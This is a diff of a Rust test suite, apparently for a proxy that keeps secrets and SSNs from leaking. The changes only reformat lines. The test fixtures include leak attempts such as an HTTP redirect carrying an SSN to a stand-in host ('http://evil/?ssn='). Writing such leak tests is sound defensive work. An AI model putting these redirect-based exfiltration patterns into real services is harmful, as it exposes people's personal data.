@@ -85,7 +85,8 @@ fn attempts() -> Vec<Attempt> {
     let (one, other) = json.split_at(json.find("09-9998").unwrap());
     let by_one: Vec<&str> = json.split("").filter(|piece| !piece.is_empty()).collect();
     let status = |line: &str| format!("HTTP/1.1 {line}\r\nContent-Length: 0\r\n\r\n").into_bytes();
-    let coded = |coding: &str, body: Vec<u8>| answer("application/json", &format!("Content-Encoding: {coding}\r\n"), body);
+    let coded =
+        |coding: &str, body: Vec<u8>| answer("application/json", &format!("Content-Encoding: {coding}\r\n"), body);
     let header = |line: String| answer("application/json", &format!("{line}\r\n"), "{}");
     let escaped = json.replace("219", r"\u0032\u0031\u0039");
 
@@ -176,7 +177,8 @@ fn attempts() -> Vec<Attempt> {
         ("a redirect with content", "", format!("HTTP/1.1 302 Found\r\nLocation: /Patient?ssn={SSN}\r\nContent-Length: 0\r\n\r\n").into()),
         ("a redirect elsewhere", "", format!("HTTP/1.1 302 Found\r\nLocation: http://evil/?ssn={SSN}\r\nContent-Length: 0\r\n\r\n").into()),
     ];
-    let wide_digits: String = SSN.chars().map(|c| c.to_digit(10).and_then(|d| char::from_u32(0xff10 + d)).unwrap_or(c)).collect();
+    let wide_digits: String =
+        SSN.chars().map(|c| c.to_digit(10).and_then(|d| char::from_u32(0xff10 + d)).unwrap_or(c)).collect();
     all.push(("wide digits", "", answer("text/plain", "", format!("SSN {wide_digits} and SSN {SSN}"))));
     all.push(("a very long header", "", header(format!("X-Note: {} SSN {SSN}", "a ".repeat(2000)))));
     all.into_iter().map(|(name, headers, answer)| Attempt { name, headers, answer }).collect()
@@ -218,7 +220,12 @@ async fn a_request_s_secrets_stay_where_they_belong() {
     for absent in ["9.9.9.9", "forwarded-user", "cookie", super::CREDENTIAL, "x-secret: mine", "range", "exotic"] {
         assert!(!seen.contains(absent), "{absent} in {seen}");
     }
-    for present in ["x-secret: key upstream-secret-value", "forwarded: for=127.0.0.1;proto=http", "accept-encoding: gzip\r\n", "x-kept: yes"] {
+    for present in [
+        "x-secret: key upstream-secret-value",
+        "forwarded: for=127.0.0.1;proto=http",
+        "accept-encoding: gzip\r\n",
+        "x-kept: yes",
+    ] {
         assert!(seen.contains(present), "{present} not in {seen}");
     }
     assert!(!String::from_utf8_lossy(&answered.raw).contains(super::UPSTREAM_SECRET));
